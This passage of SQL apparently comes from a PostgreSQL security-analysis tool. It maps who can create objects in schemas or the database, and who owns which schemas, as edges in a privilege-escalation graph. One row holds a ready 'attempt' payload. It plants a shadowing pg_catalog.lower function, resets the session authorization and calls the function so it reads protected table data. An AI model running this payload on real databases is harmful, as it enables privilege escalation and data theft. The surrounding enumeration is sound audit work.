-- making objects: CREATE on a schema and TEMPORARY on the database. What somebody makes can stand in the way of a name that
-- a function looks up (`create:S`, `temporary:`), and can be attached to a function or a table.
SELECT CASE a.grantee WHEN 0 THEN 'public:' ELSE 'role:' || pg_get_userbyid(a.grantee) END AS source,
       'create:' || n.nspname AS target,
       CASE a.grantee WHEN n.nspowner THEN 'ownership' ELSE 'grant CREATE' END AS kind,
       CASE a.grantee WHEN n.nspowner THEN format('%I owns schema %I', pg_get_userbyid(n.nspowner), n.nspname)
            ELSE format('%I granted CREATE on schema %I', pg_get_userbyid(a.grantor), n.nspname) END AS reason,
       CASE WHEN a.grantor = n.nspowner AND a.grantee <> n.nspowner THEN
         ARRAY['grant', 'schema', a.privilege_type, CASE a.grantee WHEN 0 THEN NULL ELSE pg_get_userbyid(a.grantee) END, pg_get_userbyid(a.grantor), a.is_grantable::text, n.nspname]::text[] END AS ends, NULL AS attempt
FROM pg_namespace AS n, aclexplode(coalesce(n.nspacl, acldefault('n', n.nspowner))) AS a
WHERE a.privilege_type = 'CREATE' AND n.nspname !~ '^pg_(toast|temp)'
UNION ALL
SELECT CASE a.grantee WHEN 0 THEN 'public:' ELSE 'role:' || pg_get_userbyid(a.grantee) END,
       CASE a.privilege_type WHEN 'TEMPORARY' THEN 'temporary:' ELSE 'create:' END,
       CASE a.grantee WHEN d.datdba THEN 'ownership' ELSE 'grant ' || a.privilege_type END,
       format('%I granted %s on database %I', pg_get_userbyid(a.grantor), a.privilege_type, d.datname),
       CASE WHEN a.grantor = d.datdba AND a.grantee <> d.datdba THEN
         ARRAY['grant', 'database', a.privilege_type, CASE a.grantee WHEN 0 THEN NULL ELSE pg_get_userbyid(a.grantee) END, pg_get_userbyid(a.grantor), a.is_grantable::text, d.datname]::text[] END, NULL
FROM pg_database AS d, aclexplode(coalesce(d.datacl, acldefault('d', d.datdba))) AS a
WHERE d.datname = current_database() AND a.privilege_type IN ('TEMPORARY', 'CREATE')
UNION ALL
-- who can make something in any schema can make something
SELECT 'create:' || n.nspname, 'create:', 'making', 'what is made there can be looked up', NULL, NULL FROM pg_namespace AS n
WHERE n.nspname !~ '^pg_(toast|temp)'
UNION ALL
SELECT m.node, 'making:', 'making', 'a function can be made and attached', NULL, NULL FROM unnest(ARRAY['create:', 'temporary:']) AS m (node)
UNION ALL
-- the server looks into pg_catalog before everything else
SELECT 'create:pg_catalog', 'superuser:', 'planted code', 'everyone looks into pg_catalog first: a function that fits better there is called, by a superuser too', NULL,
       format('CREATE FUNCTION pg_catalog.lower(varchar) RETURNS text LANGUAGE plpgsql AS %L; RESET SESSION AUTHORIZATION; SELECT lower(''x''::varchar)',
              E'BEGIN RAISE NOTICE ''%'', (SELECT r::pg_catalog.text FROM recuse_read AS r LIMIT 1);\nRETURN $1;\nEND')
UNION ALL
SELECT 'role:' || pg_get_userbyid(n.nspowner), 'owns:' || n.nspname, 'ownership',
       format('%I owns schema %I', pg_get_userbyid(n.nspowner), n.nspname), NULL, NULL
FROM pg_namespace AS n JOIN role AS o ON o.oid = n.nspowner AND NOT o.rolsuper
WHERE n.oid >= 16384 OR n.nspname = 'public'
